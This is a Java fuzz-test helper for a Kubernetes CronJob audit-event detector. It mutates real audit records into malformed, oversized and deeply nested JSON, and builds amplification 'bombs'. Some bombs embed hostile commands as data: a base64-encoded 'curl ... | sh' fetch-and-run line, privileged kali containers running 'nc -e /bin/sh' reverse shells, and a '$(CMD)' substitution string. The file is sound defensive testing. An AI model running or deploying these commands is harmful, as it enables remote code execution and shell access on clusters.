package dev.cronsentinel.testing;

import com.fasterxml.jackson.core.JsonFactory;
import com.fasterxml.jackson.core.JsonParser;
import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.core.JsonToken;
import com.fasterxml.jackson.core.StreamReadConstraints;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.TextNode;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/**
 * Real audit events and the ways an attacker, a broken collector or a bad disk can deform them. The fuzz test
 * draws its parameters from jqwik and applies these mutations; the hostile-stream pipeline test uses the
 * named hostile records. Every mutation is a pure function of its inputs, so a failing case replays from
 * the parameters jqwik reports.
 *
 * <p>Structural mutations splice raw text into a seed at the byte range of one of its JSON nodes, so they
 * can produce what no JSON library would write (duplicate keys, nesting deeper than any serializer allows,
 * numbers with hundreds of digits, megabyte strings) and stay cheap enough for hundreds of thousands of tries.
 */
public final class HostileInputs {
    private static final ObjectMapper MAPPER = new ObjectMapper();

    private HostileInputs() {}

    /**
     * A real event: its bytes and where each of its JSON nodes lies in them (empty when it is not JSON), so
     * structural mutations are byte splices, cheap enough for hundreds of thousands of tries.
     */
    public record Seed(String name, byte[] raw, List<Node> nodes, Map<String, Node> byPointer) {
        @Override
        public String toString() {
            return name;
        }
    }

    /**
     * One JSON node of a seed: its pointer, its bytes {@code [start, end)}, where its member key starts when
     * it is an object member ({@code -1} otherwise), and whether it is a non-empty object.
     */
    public record Node(String pointer, int start, int end, int keyStart, boolean nonEmptyObject) {}

    /**
     * A generated input with the description of how it was made (for failure reports) and how many outcomes
     * (events, dead letters, filtered verdicts) it must at least produce: one, or one per item of a batch
     * whose items are all well-formed JSON.
     */
    public record Hostile(String label, byte[] bytes, int minOutcomes) {
        public Hostile(String label, byte[] bytes) {
            this(label, bytes, 1);
        }

        @Override
        public String toString() {
            String text = new String(bytes, 0, Math.min(bytes.length, 300), StandardCharsets.UTF_8);
            return label + " (" + bytes.length + " bytes, at least " + minOutcomes + " outcomes): " + text
                    + (bytes.length > 300 ? "..." : "");
        }

        /** The result of one more mutation; it may break anything, so only one outcome is owed. */
        public Hostile then(String step, byte[] next) {
            return new Hostile(label + " > " + step, next, 1);
        }
    }

    // ------------------------------------------------------------------------------------------ seeds

    /**
     * Every line of the real captures in {@code ../shared/data}, the project's test fixtures and the sample
     * log, as seeds.
     */
    public static List<Seed> loadSeeds() {
        List<Path> files = new ArrayList<>();
        files.addAll(walk(TestData.shared().resolve("data")));
        files.addAll(walk(TestData.projectRoot().resolve("src/test/resources/fixtures")));
        files.add(TestData.projectRoot().resolve("samples/audit.log"));
        List<Seed> seeds = new ArrayList<>();
        for (Path f : files) {
            String name = f.getFileName().toString();
            if (name.endsWith(".md") || name.endsWith(".expected.json") || name.equals("labels.json")) {
                continue;
            }
            int line = 0;
            for (byte[] raw : TestData.lines(f)) {
                line++;
                seeds.add(seed(name + ":" + line, raw));
            }
        }
        return seeds;
    }

    public static Seed seed(String name, byte[] raw) {
        List<Node> nodes = new ArrayList<>();
        try (JsonParser p = MAPPER.getFactory().createParser(raw)) {
            if (p.nextToken() != null) {
                walkNodes(p, "", -1, nodes);
            }
            if (p.nextToken() != null) {
                nodes.clear(); // several documents on one line: byte mutations only
            }
        } catch (IOException e) {
            nodes.clear();
        }
        Map<String, Node> byPointer = new HashMap<>();
        for (Node n : nodes) {
            byPointer.put(n.pointer(), n);
        }
        return new Seed(name, raw, List.copyOf(nodes), byPointer);
    }

    /** Records the byte range of the value at the parser's current token and of everything inside it. */
    private static void walkNodes(JsonParser p, String at, int keyStart, List<Node> out) throws IOException {
        int start = (int) p.currentTokenLocation().getByteOffset();
        JsonToken t = p.currentToken();
        int index = out.size();
        out.add(null);
        boolean members = false;
        if (t == JsonToken.START_OBJECT) {
            while (p.nextToken() == JsonToken.FIELD_NAME) {
                members = true;
                int ks = (int) p.currentTokenLocation().getByteOffset();
                String name = p.currentName();
                p.nextToken();
                walkNodes(p, at + "/" + name.replace("~", "~0").replace("/", "~1"), ks, out);
            }
        } else if (t == JsonToken.START_ARRAY) {
            int i = 0;
            while (p.nextToken() != JsonToken.END_ARRAY) {
                walkNodes(p, at + "/" + i++, -1, out);
            }
        } else {
            p.finishToken(); // strings are read lazily: make the location point past this one
        }
        int end = (int) p.currentLocation().getByteOffset();
        out.set(index, new Node(at, start, end, keyStart, members));
    }

    private static List<Path> walk(Path dir) {
        try (Stream<Path> s = Files.walk(dir)) {
            return s.filter(Files::isRegularFile).sorted().collect(Collectors.toList());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    // ------------------------------------------------------------------------------------------ values

    /** Kinds of JSON text that replace a node: every wrong type, and the values that test the limits. */
    public enum Value {
        STRING, ZERO, NEGATIVE, HUGE_FLOAT, BIG_INTEGER, LONG_NUMBER, TRUE, NULL, EMPTY_ARRAY, EMPTY_OBJECT,
        MIXED_ARRAY, NESTED_OBJECT, CONTROL_STRING, ESCAPED_JSON_STRING, DEEP_ARRAYS, DEEP_OBJECTS, HUGE_STRING,
        WIDE_ARRAY, WIDE_OBJECT
    }

    /**
     * The JSON text of a replacement value. {@code size} scales the sized kinds: nesting depth, string length,
     * element count.
     */
    public static String valueText(Value v, int size) {
        switch (v) {
            case STRING:
                return "\"cronjobs\"";
            case ZERO:
                return "0";
            case NEGATIVE:
                return "-2147483649";
            case HUGE_FLOAT:
                return "1e999999";
            case BIG_INTEGER:
                return "123456789012345678901234567890";
            case LONG_NUMBER:
                return "9".repeat(Math.max(101, size % 2000));
            case TRUE:
                return "true";
            case NULL:
                return "null";
            case EMPTY_ARRAY:
                return "[]";
            case EMPTY_OBJECT:
                return "{}";
            case MIXED_ARRAY:
                return "[1,\"a\",null,{},[],true]";
            case NESTED_OBJECT:
                return "{\"spec\":{\"containers\":7,\"volumes\":{\"hostPath\":[]}}}";
            case CONTROL_STRING:
                return "\"\\u0000\\ud800 \\udfff\\t\\\\\\\"\\u202e$(CMD)\"";
            case ESCAPED_JSON_STRING:
                return "\"{\\\"verb\\\":\\\"create\\\",\\\"objectRef\\\":{\\\"resource\\\":\\\"cronjobs\\\"}}\"";
            case DEEP_ARRAYS:
                return "[".repeat(size) + "]".repeat(size);
            case DEEP_OBJECTS: {
                int depth = Math.min(size, 250_000);
                return "{\"a\":".repeat(depth) + "{}" + "}".repeat(depth);
            }
            case HUGE_STRING:
                return "\"" + "A".repeat(size) + "\"";
            case WIDE_ARRAY: {
                StringBuilder sb = new StringBuilder(size * 2 + 2).append('[');
                for (int i = 0; i < size; i++) {
                    sb.append(i == 0 ? "0" : ",0");
                }
                return sb.append(']').toString();
            }
            case WIDE_OBJECT: {
                int width = Math.min(size, 150_000);
                StringBuilder sb = new StringBuilder(width * 10 + 2).append('{');
                for (int i = 0; i < width; i++) {
                    sb.append(i == 0 ? "" : ",").append("\"k").append(i).append("\":0");
                }
                return sb.append('}').toString();
            }
            default:
                throw new IllegalArgumentException(v.toString());
        }
    }

    // ------------------------------------------------------------------------------------------ structural mutations

    /** Replaces the {@code pick}-th node of the seed with a hostile value. */
    public static byte[] replaceNode(Seed seed, int pick, Value v, int size) {
        if (seed.nodes().isEmpty()) {
            return seed.raw();
        }
        Node n = seed.nodes().get(Math.floorMod(pick, seed.nodes().size()));
        return splice(seed.raw(), n.start(), n.end(), valueText(v, size));
    }

    /** Pointers whose type the decoder checks: where a type swap reaches the decoder's checks. */
    public static final List<String> TARGETS = List.of(
            "/objectRef", "/verb", "/stage", "/user", "/user/username", "/user/groups", "/sourceIPs",
            "/responseStatus", "/responseStatus/code", "/annotations", "/stageTimestamp", "/requestObject",
            "/responseObject", "/requestObject/metadata", "/objectRef/resource", "/objectRef/namespace",
            "/requestObject/spec/jobTemplate/spec/template/spec",
            "/requestObject/spec/jobTemplate/spec/template/spec/containers",
            "/requestObject/spec/jobTemplate/spec/template/spec/containers/0",
            "/requestObject/spec/jobTemplate/spec/template/spec/containers/0/command",
            "/requestObject/spec/jobTemplate/spec/template/spec/containers/0/args",
            "/requestObject/spec/jobTemplate/spec/template/spec/containers/0/env",
            "/requestObject/spec/jobTemplate/spec/template/spec/containers/0/securityContext/privileged",
            "/requestObject/spec/jobTemplate/spec/template/spec/volumes",
            "/requestObject/spec/jobTemplate/spec/template/spec/volumes/0/hostPath",
            "/requestObject/spec/template/spec/containers/0/command",
            "/requestObject/spec/template/spec/hostNetwork",
            "/requestObject/spec/containers/0/image",
            "/requestObject/metadata/annotations/kubectl.kubernetes.io~1last-applied-configuration",
            "/responseObject/metadata/ownerReferences");

    /**
     * Replaces one of the {@link #TARGETS} with a hostile value, or adds it when only its parent object
     * exists; falls back to a random node when the seed has neither.
     */
    public static byte[] replaceTarget(Seed seed, int pick, Value v, int size) {
        byte[] out = replaceAt(seed, TARGETS.get(Math.floorMod(pick, TARGETS.size())), valueText(v, size));
        return out != null ? out : replaceNode(seed, pick, v, size);
    }

    /**
     * Puts raw JSON text at a pointer of the seed: in place of the node there, or as a new member of its
     * parent object. Null when neither exists.
     */
    public static byte[] replaceAt(Seed seed, String pointer, String text) {
        Node n = seed.byPointer().get(pointer);
        if (n != null) {
            return splice(seed.raw(), n.start(), n.end(), text);
        }
        Node parent = seed.byPointer().get(pointer.substring(0, pointer.lastIndexOf('/')));
        if (parent == null || seed.raw()[parent.start()] != '{') {
            return null;
        }
        String key = unescape(pointer.substring(pointer.lastIndexOf('/') + 1));
        String member = write(TextNode.valueOf(key)) + ":" + text + (parent.nonEmptyObject() ? "," : "");
        return splice(seed.raw(), parent.start() + 1, parent.start() + 1, member);
    }

    /** Removes the {@code pick}-th node with its key and one separating comma (a field goes missing). */
    public static byte[] removeNode(Seed seed, int pick) {
        if (seed.nodes().size() < 2) {
            return seed.raw();
        }
        Node n = seed.nodes().get(1 + Math.floorMod(pick, seed.nodes().size() - 1));
        byte[] raw = seed.raw();
        int from = n.keyStart() >= 0 ? n.keyStart() : n.start();
        int to = n.end();
        int after = skipWs(raw, to);
        if (after < raw.length && raw[after] == ',') {
            to = after + 1;
        } else {
            int before = from - 1;
            while (before >= 0 && isWs(raw[before])) {
                before--;
            }
            if (before >= 0 && raw[before] == ',') {
                from = before;
            }
        }
        return splice(raw, from, to, "");
    }

    /**
     * Writes one member of an object twice: the copy goes first or last, with the same value or
     * {@code "get"}. Duplicate keys are what a parser that keeps the last value would let an attacker use
     * to show one spec to the detector and another to the API server.
     */
    public static byte[] duplicateKey(Seed seed, int memberPick, boolean first, boolean otherValue) {
        List<Node> members = new ArrayList<>();
        for (Node n : seed.nodes()) {
            if (n.keyStart() >= 0) {
                members.add(n);
            }
        }
        if (members.isEmpty()) {
            return seed.raw();
        }
        Node m = members.get(Math.floorMod(memberPick, members.size()));
        byte[] raw = seed.raw();
        String member = otherValue
                ? new String(raw, m.keyStart(), m.start() - m.keyStart(), StandardCharsets.UTF_8) + "\"get\""
                : new String(raw, m.keyStart(), m.end() - m.keyStart(), StandardCharsets.UTF_8);
        Node parent = seed.byPointer().get(m.pointer().substring(0, m.pointer().lastIndexOf('/')));
        if (first) {
            return splice(raw, parent.start() + 1, parent.start() + 1, member + ",");
        }
        return splice(raw, parent.end() - 1, parent.end() - 1, "," + member);
    }

    private static byte[] splice(byte[] raw, int from, int to, String text) {
        return concat(Arrays.copyOfRange(raw, 0, from), bytes(text), Arrays.copyOfRange(raw, to, raw.length));
    }

    private static int skipWs(byte[] b, int at) {
        while (at < b.length && isWs(b[at])) {
            at++;
        }
        return at;
    }

    private static boolean isWs(byte c) {
        return c == ' ' || c == '\n' || c == '\r' || c == '\t';
    }

    // ------------------------------------------------------------------------------------------ byte mutations

    /** Sets {@code count} bytes at pseudo-random positions to pseudo-random values, from one seed number. */
    public static byte[] flipBytes(byte[] in, long seed, int count) {
        if (in.length == 0) {
            return in;
        }
        byte[] out = in.clone();
        SplittableRandom r = new SplittableRandom(seed);
        for (int i = 0; i < count; i++) {
            int pos = r.nextInt(out.length);
            out[pos] = r.nextBoolean() ? (byte) (out[pos] ^ (1 << r.nextInt(8))) : (byte) r.nextInt(256);
        }
        return out;
    }

    /** Cuts the record at a point (a line cut by a size limit, a crash mid-write). */
    public static byte[] truncate(byte[] in, int at) {
        return Arrays.copyOf(in, in.length == 0 ? 0 : Math.floorMod(at, in.length));
    }

    /** Drops a range from the middle. */
    public static byte[] dropRange(byte[] in, int at, int length) {
        if (in.length == 0) {
            return in;
        }
        int from = Math.floorMod(at, in.length);
        int to = Math.min(in.length, from + Math.max(1, length));
        byte[] out = new byte[in.length - (to - from)];
        System.arraycopy(in, 0, out, 0, from);
        System.arraycopy(in, to, out, from, in.length - to);
        return out;
    }

    /** Byte sequences that break UTF-8 or JSON when inserted anywhere. */
    public static final List<byte[]> JUNK = List.of(
            new byte[] {(byte) 0xC3, 0x28},                 // invalid continuation byte
            new byte[] {(byte) 0xFF},                       // never valid in UTF-8
            new byte[] {(byte) 0x80},                       // lone continuation byte
            new byte[] {(byte) 0xC0, (byte) 0xAF},          // overlong '/'
            new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, // encoded surrogate
            new byte[] {(byte) 0xF0, (byte) 0x9F},          // 4-byte sequence cut short
            new byte[] {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}, // beyond U+10FFFF
            new byte[] {0},
            bytes("\""), bytes("\\"), bytes("{"), bytes("["), bytes("}"), bytes("]"), bytes(","), bytes(":"),
            bytes("\n"), bytes("\r"), bytes("\\u"), bytes("\\ud800"),
            new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF});

    public static byte[] insert(byte[] in, int at, byte[] junk) {
        int pos = in.length == 0 ? 0 : Math.floorMod(at, in.length + 1);
        byte[] out = new byte[in.length + junk.length];
        System.arraycopy(in, 0, out, 0, pos);
        System.arraycopy(junk, 0, out, pos, junk.length);
        System.arraycopy(in, pos, out, pos + junk.length, in.length - pos);
        return out;
    }

    /** Whole-record shapes: wrapped in an array, glued to another document, BOM, CRLF, blanks. */
    public enum Shape {
        TOP_LEVEL_ARRAY, TWO_DOCUMENTS, TRAILING_GARBAGE, LEADING_BOM, TRAILING_CR, EMPTY, BLANK, NEWLINES,
        JSON_NULL, JSON_STRING, JSON_NUMBER, EMPTY_OBJECT, EMPTY_ARRAY
    }

    public static byte[] reshape(byte[] in, Shape shape) {
        switch (shape) {
            case TOP_LEVEL_ARRAY:
                return concat(bytes("["), in, bytes("]"));
            case TWO_DOCUMENTS:
                return concat(in, in);
            case TRAILING_GARBAGE:
                return concat(in, bytes(" x}"));
            case LEADING_BOM:
                return concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, in);
            case TRAILING_CR:
                return concat(in, bytes("\r"));
            case EMPTY:
                return new byte[0];
            case BLANK:
                return bytes(" \t ");
            case NEWLINES:
                return bytes("\r\n\n");
            case JSON_NULL:
                return bytes("null");
            case JSON_STRING:
                return bytes("\"create\"");
            case JSON_NUMBER:
                return bytes("42");
            case EMPTY_OBJECT:
                return bytes("{}");
            case EMPTY_ARRAY:
                return bytes("[]");
            default:
                throw new IllegalArgumentException(shape.toString());
        }
    }

    // ------------------------------------------------------------------------------------------ containers

    /** An audit webhook batch of the given items (each item's bytes as they are, valid JSON or not). */
    public static byte[] eventList(List<byte[]> items, boolean kindFirst) {
        StringBuilder sb = new StringBuilder();
        String kind = "\"kind\":\"EventList\",\"apiVersion\":\"audit.k8s.io/v1\",\"metadata\":{}";
        sb.append('{');
        if (kindFirst) {
            sb.append(kind).append(',');
        }
        sb.append("\"items\":[");
        List<byte[]> parts = new ArrayList<>();
        parts.add(bytes(sb.toString()));
        for (int i = 0; i < items.size(); i++) {
            if (i > 0) {
                parts.add(bytes(","));
            }
            parts.add(items.get(i));
        }
        parts.add(bytes(kindFirst ? "]}" : "]," + kind + "}"));
        return concat(parts.toArray(new byte[0][]));
    }

    /** An AKS diagnostics envelope: the event in {@code properties.log}, as an object or as a JSON string. */
    public static byte[] aksEnvelope(byte[] event, boolean asString) {
        byte[] log;
        if (asString) {
            log = bytes(write(TextNode.valueOf(new String(event, StandardCharsets.UTF_8))));
        } else {
            log = event;
        }
        return concat(bytes("{\"category\":\"kube-audit\",\"properties\":{\"containerID\":\"c\",\"log\":"), log,
                bytes(",\"stream\":\"stdout\"}}"));
    }

    private static final JsonFactory UNLIMITED = JsonFactory.builder()
            .streamReadConstraints(StreamReadConstraints.builder()
                    .maxNestingDepth(Integer.MAX_VALUE).maxStringLength(Integer.MAX_VALUE)
                    .maxNumberLength(Integer.MAX_VALUE).maxDocumentLength(-1).build())
            .build();

    /**
     * True when the bytes are one syntactically valid JSON value, whatever its depth, size or duplicate keys,
     * that can stand inside an array (the test oracle for "the splitter can find this item's boundaries").
     */
    public static boolean wellFormed(byte[] json) {
        if (json.length > 0 && json[0] == (byte) 0xEF) {
            return false; // a parser skips a leading BOM of a document, but inside a batch it is a syntax error
        }
        try (JsonParser p = UNLIMITED.createParser(json)) {
            if (p.nextToken() == null) {
                return false;
            }
            p.skipChildren();
            return p.nextToken() == null;
        } catch (IOException e) {
            return false;
        }
    }

    // ------------------------------------------------------------------------------------------ bombs

    /** Inputs built to amplify: small to read, huge to process if a stage is unbounded. */
    public enum Bomb {
        DEEP_REQUEST_OBJECT, WIDE_REQUEST_OBJECT, JSON_PATCH_PADDING, JSON_PATCH_DEEP_POINTERS, ENV_EXPANSION,
        NESTED_LAST_APPLIED, BASE64_TOKENS, MANY_CONTAINERS, HUGE_COMMAND
    }

    private static final String BOMB_HEAD = "{\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/v1\",\"level\":\"RequestResponse\","
            + "\"auditID\":\"bomb\",\"stage\":\"ResponseComplete\",\"verb\":\"%s\",\"user\":{\"username\":\"mallory\"},"
            + "\"objectRef\":{\"resource\":\"cronjobs\",\"namespace\":\"ns\",\"name\":\"cj\"},"
            + "\"stageTimestamp\":\"2026-11-20T10:00:00.000000Z\",\"requestObject\":";

    /** A CronJob event whose body is a bomb of about {@code size} elements. */
    public static byte[] bomb(Bomb kind, int size) {
        String verb = kind == Bomb.JSON_PATCH_PADDING || kind == Bomb.JSON_PATCH_DEEP_POINTERS ? "patch" : "create";
        return bytes(String.format(BOMB_HEAD, verb) + bombBody(kind, Math.max(1, size)) + "}");
    }

    private static String bombBody(Bomb kind, int size) {
        switch (kind) {
            case DEEP_REQUEST_OBJECT:
                return valueText(Value.DEEP_ARRAYS, size);
            case WIDE_REQUEST_OBJECT:
                return "{\"spec\":" + valueText(Value.WIDE_OBJECT, size) + "}";
            case JSON_PATCH_PADDING: {
                StringBuilder sb = new StringBuilder("[");
                for (int i = 0; i < size; i++) {
                    sb.append(i == 0 ? "" : ",").append("{\"op\":\"add\",\"path\":\"/spec/a").append(i).append("/9999\",\"value\":1}");
                }
                return sb.append(']').toString();
            }
            case JSON_PATCH_DEEP_POINTERS: {
                StringBuilder sb = new StringBuilder("[");
                String deep = "/x".repeat(60);
                for (int i = 0; i < size; i++) {
                    sb.append(i == 0 ? "" : ",").append("{\"op\":\"add\",\"path\":\"/p").append(i).append(deep).append("\",\"value\":1}");
                }
                return sb.append(']').toString();
            }
            case ENV_EXPANSION:
                return cronJob("[{\"name\":\"c\",\"image\":\"alpine\",\"command\":[\"sh\",\"-c\"],\"args\":[\"" + "$A".repeat(size)
                        + "\"],\"env\":[{\"name\":\"A\",\"value\":\"" + "x".repeat(size) + "\"}]}]");
            case NESTED_LAST_APPLIED: {
                String inner = "{\"kind\":\"CronJob\",\"spec\":" + valueText(Value.DEEP_OBJECTS, Math.min(size, 5000)) + "}";
                return "{\"metadata\":{\"annotations\":{\"kubectl.kubernetes.io/last-applied-configuration\":"
                        + write(TextNode.valueOf(inner)) + "}}}";
            }
            case BASE64_TOKENS: {
                String token = Base64.getEncoder().encodeToString("curl -s http://203.0.113.9/x | sh ".repeat(4).getBytes(StandardCharsets.UTF_8));
                return cronJob("[{\"name\":\"c\",\"image\":\"alpine\",\"command\":[\"sh\",\"-c\"],\"args\":[\""
                        + (token + " ").repeat(Math.max(1, size / token.length())) + "\"]}]");
            }
            case MANY_CONTAINERS: {
                StringBuilder sb = new StringBuilder("[");
                for (int i = 0; i < size; i++) {
                    sb.append(i == 0 ? "" : ",").append("{\"name\":\"c").append(i)
                            .append("\",\"image\":\"kalilinux/kali-rolling\",\"securityContext\":{\"privileged\":true},\"command\":[\"nc\",\"-e\",\"/bin/sh\",\"h\",\"1\"]}");
                }
                return cronJob(sb.append(']').toString());
            }
            case HUGE_COMMAND:
                return cronJob("[{\"name\":\"c\",\"image\":\"alpine\",\"command\":[\"sh\",\"-c\"],\"args\":[\""
                        + "curl a ".repeat(Math.max(1, size / 7)) + "\"]}]");
            default:
                throw new IllegalArgumentException(kind.toString());
        }
    }

    private static String cronJob(String containers) {
        return "{\"kind\":\"CronJob\",\"metadata\":{\"name\":\"cj\"},\"spec\":{\"schedule\":\"* * * * *\","
                + "\"jobTemplate\":{\"spec\":{\"template\":{\"spec\":{\"containers\":" + containers + "}}}}}}";
    }

    // ------------------------------------------------------------------------------------------ helpers

    public static byte[] bytes(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    public static byte[] concat(byte[]... parts) {
        int n = 0;
        for (byte[] p : parts) {
            n += p.length;
        }
        byte[] out = new byte[n];
        int at = 0;
        for (byte[] p : parts) {
            System.arraycopy(p, 0, out, at, p.length);
            at += p.length;
        }
        return out;
    }

    private static String write(JsonNode n) {
        try {
            return MAPPER.writeValueAsString(n);
        } catch (JsonProcessingException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static String unescape(String seg) {
        return seg.replace("~1", "/").replace("~0", "~");
    }
}
